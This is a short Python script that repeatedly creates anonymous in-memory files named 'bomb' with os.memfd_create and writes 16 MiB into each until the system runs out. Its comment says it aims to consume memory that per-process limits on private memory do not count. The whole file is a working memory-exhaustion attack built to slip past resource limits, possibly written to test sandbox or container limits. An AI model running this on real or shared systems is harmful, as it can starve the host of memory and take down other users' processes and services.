# Takes memory that no process limit on private memory sees: files in memory without a name.
import os

kept = []
try:
    while True:
        fd = os.memfd_create("bomb")
        kept.append(fd)
        for _ in range(16):
            os.write(fd, b"x" * (1 << 20))
except OSError as error:
    print(error.strerror)
